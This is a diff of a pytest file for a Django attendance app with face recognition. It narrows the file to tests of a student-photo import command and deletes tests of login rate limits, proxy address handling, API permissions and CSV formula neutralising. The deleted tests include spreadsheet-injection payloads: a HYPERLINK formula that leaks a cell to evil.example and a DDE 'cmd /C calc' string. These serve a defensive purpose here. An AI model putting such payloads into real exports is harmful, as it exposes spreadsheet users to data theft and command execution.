@@ -1,126 +1,22 @@
-"""Who gets in and what they can take away: login limits (site and admin, behind a load
-balancer), an import that neither follows links nor merges people by name, CSV files a
-spreadsheet does not run, and API answers that say who may read what."""
+"""import_students: a folder of student folders becomes students and enrolment photos, once; it
+never follows a link, never merges two people by name, reports what it skips by path, and records
+consent only when told who gave it."""
 
-import csv
 import io
-import os
-import subprocess
-import sys
 import zipfile
-from pathlib import Path
 
 import pytest
 from django.core.management import call_command
-from django.test import RequestFactory, override_settings
-from django.urls import reverse
-from django.utils import timezone
+from django.core.management.base import CommandError
 
-from attendance_site.ratelimit import client_address
 from recognition.enrolment import add_enrolment_photo
-from recognition.models import Capture, DetectedFace, FacePhoto
-from students.csv_files import inert_cell
+from recognition.models import FacePhoto
 from students.export import student_export_zip
-from students.models import AttendanceRecord, Student
-from tests.factories import make_course, make_student, make_user
-from tests.web.school import (
-    device_token,
-    school,  # noqa: F401 - a fixture
-)
+from students.models import Course, Student
+from tests.factories import make_course, make_student
+from tests.helpers import photo_jpeg
 
 pytestmark = pytest.mark.django_db
-
-REPO_ROOT = Path(__file__).resolve().parent.parent
-
-
-# ---- logins ----
-
-
-def login(client, username, password, address, url="/login/", **headers):
-    return client.post(url, {"username": username, "password": password}, REMOTE_ADDR=address, **headers)
-
-
-@override_settings(LOGIN_RATE_LIMIT=3)
-def test_a_full_width_spelling_of_a_user_name_counts_against_the_same_login(client):
-    make_user("teacher2", role="Teacher")
-    for n in range(3):
-        login(client, "teacher2", "wrong", f"198.51.100.{n}")
-    # The form normalises "ｔeacher2" (full-width t) to "teacher2" before it authenticates.
-    response = login(client, "\uff54eacher2", "pw-teacher2", "198.51.100.50")
-    assert response.status_code == 429
-    assert "_auth_user_id" not in client.session
-
-
-@override_settings(LOGIN_RATE_LIMIT=3)
-def test_the_admin_login_is_limited_like_the_sites_and_then_does_not_check_the_password(client):
-    make_user("boss", is_staff=True, is_superuser=True)
-    for n in range(3):
-        assert login(client, "boss", "wrong", f"198.51.100.{n}", url="/admin/login/").status_code == 200
-    response = login(client, "boss", "pw-boss", "198.51.100.50", url="/admin/login/")
-    assert response.status_code == 429
-    assert "Too many login attempts" in response.content.decode()
-    assert "_auth_user_id" not in client.session
-
-
-@override_settings(LOGIN_RATE_LIMIT=3)
-def test_the_admin_and_the_site_login_share_the_per_address_count(client):
-    for n in range(2):
-        login(client, f"guess{n}", "x", "203.0.113.9", url="/admin/login/")
-    login(client, "guess2", "x", "203.0.113.9")
-    assert login(client, "guess3", "x", "203.0.113.9", url="/admin/login/").status_code == 429
-
-
-@override_settings(LOGIN_RATE_LIMIT=3, TRUSTED_PROXY_HOPS=1)
-def test_behind_one_trusted_load_balancer_each_client_has_its_own_address_count(client):
-    answers = [
-        login(client, f"guess{n}", "x", "10.0.0.1", HTTP_X_FORWARDED_FOR=f"203.0.113.{n}").status_code for n in range(6)
-    ]
-    assert answers == [200] * 6
-
-
-@override_settings(LOGIN_RATE_LIMIT=3, TRUSTED_PROXY_HOPS=1)
-def test_a_client_cannot_escape_the_address_count_by_forging_the_start_of_the_header(client):
-    answers = [
-        login(client, f"guess{n}", "x", "10.0.0.1", HTTP_X_FORWARDED_FOR=f"192.0.2.{n}, 203.0.113.7").status_code
-        for n in range(4)
-    ]
-    assert answers == [200, 200, 200, 429]
-
-
-@pytest.mark.parametrize(
-    "hops, forwarded_for, expected",
-    [
-        (0, "203.0.113.7", "10.0.0.1"),  # no proxy trusted: the header is the client's say-so
-        (1, "203.0.113.7", "203.0.113.7"),
-        (1, "192.0.2.66, 203.0.113.7", "203.0.113.7"),
-        (2, "192.0.2.66, 203.0.113.7, 10.0.0.2", "203.0.113.7"),
-        (1, " 2001:db8::1 ", "2001:db8::1"),
-        (2, "203.0.113.7", "10.0.0.1"),  # shorter than the trusted hops: not through them all
-        (1, "", "10.0.0.1"),
-        (1, "192.0.2.66, not-an-address", "10.0.0.1"),
-        (1, "192.0.2.66,", "10.0.0.1"),
-        (1, "203.0.113.7:4711", "10.0.0.1"),
-    ],
-)
-def test_the_client_address_is_read_through_the_trusted_hops_only(settings, hops, forwarded_for, expected):
-    settings.TRUSTED_PROXY_HOPS = hops
-    request = RequestFactory().get("/", REMOTE_ADDR="10.0.0.1", HTTP_X_FORWARDED_FOR=forwarded_for)
-    assert client_address(request) == expected
-
-
-def test_a_negative_number_of_proxy_hops_is_refused_at_start():
-    env = {**os.environ, "TRUSTED_PROXY_HOPS": "-1"}
-    result = subprocess.run(
-        [sys.executable, "-c", "import attendance_site.settings"],
-        cwd=REPO_ROOT,
-        env=env,
-        capture_output=True,
-        text=True,
-    )
-    assert result.returncode != 0 and "TRUSTED_PROXY_HOPS" in result.stderr
-
-
-# ---- import_students ----
 
 
 @pytest.fixture
@@ -313,111 +209,63 @@ def test_the_shared_dataset_imports_with_consent_as_30_students_and_189_photos(f
     assert not Student.objects.filter(consent_recorded_at__isnull=True).exists()
 
 
-# ---- CSV files a spreadsheet opens ----
+def test_import_of_the_shared_dataset_creates_every_student_and_photo_once(faces_dataset, capsys):
+    call_command("import_students", str(faces_dataset / "identities"), course="FACES")
+    assert Student.objects.count() == 30
+    assert FacePhoto.objects.count() == 189
+    assert Course.objects.get(code="FACES").students.count() == 30
+    assert Student.objects.filter(full_name="George W Bush").exists()
+
+    call_command("import_students", str(faces_dataset / "identities"), course="FACES")
+    assert Student.objects.count() == 30
+    assert FacePhoto.objects.count() == 189
+    assert "0 new student(s) and 0 new photo(s)" in capsys.readouterr().out
 
 
-@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
-def test_a_cell_that_begins_like_a_formula_is_made_text(start):
-    assert inert_cell(f"{start}1+2") == f"'{start}1+2"
+def test_unreadable_files_are_reported_by_path_and_skipped(tmp_path, capsys):
+    folder = tmp_path / "Jane_Doe"
+    folder.mkdir()
+    good = photo_jpeg()
+    (folder / "good.jpg").write_bytes(good)
+    (folder / "notes.jpg").write_text("this is not a photo")
+    (folder / "truncated.jpg").write_bytes(good[:400])
+
+    call_command("import_students", str(tmp_path))
+
+    student = Student.objects.get(full_name="Jane Doe")
+    assert student.face_photos.count() == 1
+    err = capsys.readouterr().err
+    assert str(folder / "notes.jpg") in err
+    assert str(folder / "truncated.jpg") in err
 
 
-def test_plain_cells_and_numbers_are_left_alone():
-    assert [inert_cell(v) for v in ["Ada Lovelace", "S1", 87.5, None]] == ["Ada Lovelace", "S1", 87.5, None]
+def test_import_of_a_missing_folder_says_so(tmp_path):
+    from django.core.management.base import CommandError
+
+    with pytest.raises(CommandError, match="is not a folder"):
+        call_command("import_students", str(tmp_path / "nowhere"))
 
 
-EVIL_NAME = '=HYPERLINK("http://evil.example/?"&A3,"click")'
+def photo_folder(tmp_path):
+    folder = tmp_path / "import" / "S00042_Ada_Lovelace"
+    folder.mkdir(parents=True)
+    (folder / "a.jpg").write_bytes(photo_jpeg())
+    return folder.parent
 
 
-def csv_rows(response):
-    return list(csv.reader(io.StringIO(response.content.decode())))
+def test_import_names_the_course_it_creates_from_course_name(tmp_path, capsys):
+    call_command("import_students", str(photo_folder(tmp_path)), course="MATH1", course_name="Mathematics, year 1")
+    assert str(Course.objects.get(code="MATH1")) == "MATH1 Mathematics, year 1"
+    assert "Created course MATH1 (Mathematics, year 1)." in capsys.readouterr().out
 
 
-def test_the_course_csv_writes_a_formula_name_as_text(client, school):
-    Student.objects.filter(pk=school.bob.pk).update(full_name=EVIL_NAME, student_number="+S2")
-    client.force_login(school.teacher)
-    rows = csv_rows(client.get(reverse("course_csv", args=[school.course.pk])))
-    assert ["'+S2", "'" + EVIL_NAME] in [row[:2] for row in rows]
+def test_import_without_course_name_leaves_the_name_blank_for_the_admin(tmp_path, capsys):
+    call_command("import_students", str(photo_folder(tmp_path)), course="MATH1")
+    course = Course.objects.get(code="MATH1")
+    assert (course.name, str(course)) == ("", "MATH1")
+    assert "give it a name in the admin" in capsys.readouterr().out
 
 
-def test_the_admins_attendance_csv_writes_a_formula_name_as_text(client, school):
-    Student.objects.filter(pk=school.bob.pk).update(full_name="@SUM(1+1)*cmd|' /C calc'!A0")
-    record = AttendanceRecord.objects.create(
-        session=school.session, student=school.bob, status="present", source="manual"
-    )
-    client.force_login(school.admin)
-    response = client.post(
-        reverse("admin:students_attendancerecord_changelist"), {"action": "export_csv", "_selected_action": [record.pk]}
-    )
-    (header, row) = csv_rows(response)
-    assert row[header.index("student")] == "'@SUM(1+1)*cmd|' /C calc'!A0"
-
-
-# ---- the API: schema, tokens, captures ----
-
-
-def as_device(token):
-    return {"HTTP_AUTHORIZATION": f"Token {token}"}
-
-
-def test_the_schema_needs_a_login_like_its_docs_page(client, school):
-    _, token = device_token(course=school.course)
-    assert client.get("/api/schema/").status_code == 401
-    assert client.get("/api/schema/", **as_device(token)).status_code == 403
-    assert client.get("/api/docs/").status_code == 302
-    client.force_login(school.ada_user)
-    assert client.get("/api/schema/").status_code == 200 and client.get("/api/docs/").status_code == 200
-
-
-def test_a_wrong_or_revoked_token_is_answered_401_with_the_scheme_to_use(client, school):
-    device, token = device_token(course=school.course)
-    wrong = client.get("/api/courses/", **as_device("rollcall_not-a-token"))
-    assert (wrong.status_code, wrong["WWW-Authenticate"]) == (401, "Token")
-    device.revoked_at = timezone.now()
-    device.save()
-    revoked = client.get("/api/courses/", **as_device(token))
-    assert (revoked.status_code, revoked["WWW-Authenticate"]) == (401, "Token")
-    assert "revoked" in revoked.json()["detail"]
-
-
-def test_anonymous_callers_are_401_and_known_callers_without_the_right_403(client, school):
-    anonymous = client.get("/api/courses/")
-    assert (anonymous.status_code, anonymous["WWW-Authenticate"]) == (401, "Token")
-    _, token = device_token(course=school.course)
-    refused = client.get(f"/api/sessions/{school.session.pk}/attendance/", **as_device(token))
-    assert refused.status_code == 403 and "WWW-Authenticate" not in refused
-
-
-def test_a_logged_in_teacher_is_not_refused_for_a_token_header_it_does_not_send(client, school):
-    client.force_login(school.teacher)
-    assert client.get("/api/courses/").status_code == 200
-
-
-def capture_with_a_recognised_face(session, student, device=None):
-    capture = Capture.objects.create(
-        session=session,
-        image="captures/x.jpg",
-        taken_at=timezone.now(),
-        status=Capture.DONE,
-        device=device,
-        face_count=1,
-    )
-    DetectedFace.objects.create(capture=capture, x1=1, y1=1, x2=40, y2=40, score=0.99, student=student, distance=0.3)
-    return capture
-
-
-def test_a_device_reads_only_the_captures_it_sent(client, school):
-    camera, camera_token = device_token(room="R12")
-    _, other_token = device_token(name="Second camera", room="R12")
-    sent = capture_with_a_recognised_face(school.session, school.ada, device=camera)
-    teachers = capture_with_a_recognised_face(school.session, school.bob)
-
-    listed = client.get(f"/api/sessions/{school.session.pk}/captures/", **as_device(camera_token)).json()
-    assert [item["id"] for item in listed] == [sent.pk]
-    assert client.get(f"/api/captures/{sent.pk}/", **as_device(camera_token)).status_code == 200
-    assert client.get(f"/api/captures/{teachers.pk}/", **as_device(camera_token)).status_code == 404
-    assert client.get(f"/api/sessions/{school.session.pk}/captures/", **as_device(other_token)).json() == []
-    assert client.get(f"/api/captures/{sent.pk}/", **as_device(other_token)).status_code == 404
-
-    client.force_login(school.teacher)
-    listed = client.get(f"/api/sessions/{school.session.pk}/captures/").json()
-    assert sorted(item["id"] for item in listed) == sorted([sent.pk, teachers.pk])
+def test_import_refuses_a_blank_consent(tmp_path):
+    with pytest.raises(CommandError, match="--consent needs who gave it"):
+        call_command("import_students", str(photo_folder(tmp_path)), consent=" ")
